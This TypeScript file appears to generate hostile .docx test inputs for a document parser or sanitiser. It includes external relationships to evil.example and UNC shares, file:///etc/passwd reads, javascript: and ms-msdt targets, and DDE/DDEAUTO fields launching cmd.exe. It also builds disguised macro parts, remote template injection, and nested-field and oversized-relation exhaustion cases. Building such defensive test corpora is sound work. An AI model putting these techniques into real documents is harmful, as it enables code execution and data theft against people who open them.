/** Pointers that leave the file, code that hides in it, and parts that are taken for what they are not. */
import type { Random } from '../random.ts'
import { many, NASTY, OFFICE, p, TYPES, times, wordZip } from './honest.ts'
import type { Kinds } from './kinds.ts'

const KINDS = [
  'hyperlink',
  'image',
  'oleObject',
  'package',
  'subDocument',
  'frame',
  'aFChunk',
  'attachedTemplate',
  'video',
  'header',
  'footnotes',
  'comments',
  'styles',
  'settings',
  'theme',
  'customXml',
  'constructor',
] as const

const TARGETS = [
  'http://evil.example/x',
  'HTTPS://evil.example/x',
  '//evil.example/x',
  '\\\\evil\\share\\x',
  'file:///etc/passwd',
  'file://evil/share',
  'javascript:alert(1)',
  'data:text/html,x',
  'ms-msdt:/id x',
  'mhtml:http://evil.example/x!x-usc:http://evil.example/y',
  '../../../../../../etc/passwd',
  'document.xml',
  'NULL',
  '#x',
  ' http://evil.example',
  ...NASTY.map((n) => n.replace(/&#\w+;/g, '')),
] as const

const pointer = (r: Random): string =>
  `<Relationship Id="rId${9 + r.int(4)}" Type="${OFFICE}/${r.pick(KINDS)}" Target="${r.pick(TARGETS)}"${r.pick(['', ' TargetMode="External"', ' TargetMode="external"', ' TargetMode="Internal"', ' TargetMode="x"'])}/>`

const relation = (kind: string, target: string): string =>
  `<Relationship Id="rId20" Type="${OFFICE}/${kind}" Target="${target}"/>`

const uses = `${p('Fee')}<w:p><w:r><w:object><o:OLEObject r:id="rId9" Type="Link" ProgID="Package"/></w:object></w:r><w:r><w:pict><v:imagedata r:id="rId10" r:href="rId11"/></w:pict></w:r></w:p><w:altChunk r:id="rId12"/><w:subDoc r:id="rId9"/>`

const FIELDS = [
  'INCLUDETEXT "\\\\\\\\evil\\\\share\\\\x.docx"',
  'INCLUDEPICTURE "http://evil.example/p.png" \\d',
  'DDE cmd "/c calc"',
  'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',
  'LINK Excel.Sheet.8 "\\\\\\\\evil\\\\x.xls" "" \\a',
  'IMPORT "file:///etc/passwd"',
  'DATABASE \\d "http://evil.example"',
  'HYPERLINK "javascript:alert(1)"',
  'MACROBUTTON AutoOpen',
  'AUTOTEXT x',
  'QUOTE 65 66 67',
  'SET a b',
  '= 1/0',
  '',
] as const

const mark = (type: string): string => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`
const field = (code: string, result: string): string =>
  `${mark('begin')}<w:r><w:instrText>${code.replace(/"/g, '&quot;')}</w:instrText></w:r>${result}`

const MACROS: readonly ((r: Random) => Uint8Array)[] = [
  (r) => wordZip({ parts: { [r.pick(['word/vbaProject.bin', 'VBAPROJECT.BIN', 'word/x/vbaproject.bin'])]: 'x' } }),
  () => wordZip({ relations: relation('vbaProject', 'harmless.bin'), parts: { 'word/harmless.bin': 'x' } }),
  () =>
    wordZip({
      types: '<Override PartName="/word/a.bin" ContentType="application/vnd.ms-office.vbaProject"/>',
      parts: { 'word/a.bin': 'x' },
    }),
  () =>
    wordZip({
      types:
        '<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
    }),
  (r) =>
    wordZip({
      relations: relation(r.pick(['control', 'activeXControlBinary', 'wordVbaData']), 'a.xml'),
      parts: { 'word/a.xml': '<a/>' },
    }),
  () => wordZip({ parts: { 'customUI/customUI.xml': '<customUI onLoad="x"/>', 'word/attachedToolbars.bin': 'x' } }),
]

export const relationKinds: Kinds = {
  'pointer out of the file': (r) => wordZip({ body: uses, relations: pointer(r) }),
  'pointers out of the file': (r) => wordZip({ body: uses, relations: times(1 + r.int(5), () => pointer(r)) }),
  'pointer out of a part beside the text': (r) =>
    wordZip({
      parts: {
        [`word/_rels/${r.pick(['header', 'footnotes', 'settings', 'x'])}.xml.rels`]: `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${pointer(r)}</Relationships>`,
      },
    }),
  'template from elsewhere': (r) =>
    wordZip({
      relations: relation('settings', 'settings.xml'),
      types: `<Override PartName="/word/settings.xml" ContentType="${TYPES}.settings+xml"/>`,
      parts: {
        'word/settings.xml': `<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${OFFICE}"><w:attachedTemplate r:id="rId1"/></w:settings>`,
        'word/_rels/settings.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${OFFICE}/attachedTemplate" Target="${r.pick(TARGETS)}" TargetMode="External"/></Relationships>`,
      },
    }),
  'another document inside': (r) =>
    wordZip({
      body: uses,
      relations: `<Relationship Id="rId12" Type="${OFFICE}/aFChunk" Target="${r.pick(['afchunk.html', 'afchunk.docx', 'document.xml'])}"/>`,
      parts: { 'word/afchunk.html': '<script src="http://evil.example"></script>', 'word/afchunk.docx': wordZip() },
    }),
  'macros under another name': (r) => r.pick(MACROS)(r),
  'fields that fetch': (r) =>
    wordZip({
      body: times(1 + r.int(9), () => {
        const code = r.pick(FIELDS)
        return `<w:p>${field(code, r.pick(['', mark('separate') + p('x').slice(5, -6)]))}${r.pick(['', mark('end')])}<w:fldSimple w:instr="${code.replace(/"/g, '&quot;')}">${r.pick(['', '<w:r><w:t>x</w:t></w:r>'])}</w:fldSimple></w:p>`
      }),
    }),
  'fields within fields': (r) => {
    const depth = r.pick([10, 300, 3000, 20_000, 60_000])
    const [open, between] = r.pick([
      [mark('begin'), ''],
      [`${mark('begin')}${mark('separate')}`, ''],
      [`${mark('begin')}${mark('separate')}<w:r><w:t>a</w:t></w:r>`, ''],
      [mark('begin'), '</w:p><w:p>'],
    ])
    const closed = r.next() < 0.5 ? mark('end').repeat(depth) : ''
    return wordZip({
      body: `<w:p>${(open + between).repeat(depth)}</w:p>${p('Fee').repeat(r.int(50))}<w:p>${closed}</w:p>`,
    })
  },
  'fields ended and never begun': (r) =>
    wordZip({
      body: `<w:p>${times(50, () => mark(r.pick(['begin', 'separate', 'end', 'x'])) + p('a').slice(5, -6))}</w:p>`,
    }),
  'relations without end': (r) =>
    wordZip({
      relations: times(
        many(r, 60_000),
        (n) =>
          `<Relationship Id="rId${r.next() < 0.5 ? 5 : n}" Type="${OFFICE}/${r.pick(['header', 'image', 'hyperlink'])}" Target="${r.pick(['header.xml', 'media/x.png', 'document.xml'])}"/>`,
      ),
    }),
  'relations to the wrong parts': (r) => {
    const parts = [
      'document.xml',
      'styles.xml',
      'numbering.xml',
      'header.xml',
      'footnotes.xml',
      'comments.xml',
      'missing.xml',
      '../[Content_Types].xml',
      '_rels/document.xml.rels',
      '',
      '/',
      '..',
    ]
    const ids = ['rId1', 'rId2', 'rId3', 'rId4', 'rId5', 'rId6', 'rId8']
    return wordZip({ targets: Object.fromEntries(ids.filter(() => r.next() < 0.4).map((id) => [id, r.pick(parts)])) })
  },
  'main text that is another part': (r) =>
    wordZip({
      targets: {
        main: r.pick([
          'word/styles.xml',
          'word/header.xml',
          '/word/document.xml',
          'word/_rels/document.xml.rels',
          '[Content_Types].xml',
          '_rels/.rels',
          '',
          '..',
          'http://evil.example/d.xml',
          'word/missing.xml',
        ]),
      },
    }),
  'content types that contradict': (r) =>
    wordZip({
      types: times(
        1 + r.int(9),
        () =>
          `<Override PartName="/word/${r.pick(['document', 'styles', 'header', 'footnotes', 'comments'])}.xml" ContentType="${TYPES}.${r.pick(['document.main', 'styles', 'header', 'template.main', 'comments', 'footnotes'])}+xml"/>`,
      ),
    }),
}
